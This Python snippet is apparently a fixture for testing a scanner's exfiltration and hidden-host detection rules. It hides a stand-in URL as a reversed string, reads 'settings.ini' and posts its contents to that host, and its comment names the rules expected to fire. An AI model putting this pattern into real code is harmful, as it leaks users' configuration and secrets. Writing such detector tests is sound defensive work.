import urllib.request

place = "/elpmaxe.nibtseuqer.x//:sptth"[::-1]
urllib.request.urlopen(place, data=open("settings.ini", "rb").read()) # expect: data-exfiltration/dead-drop-host, url-analyzer/dead-drop, url-analyzer/hidden-host
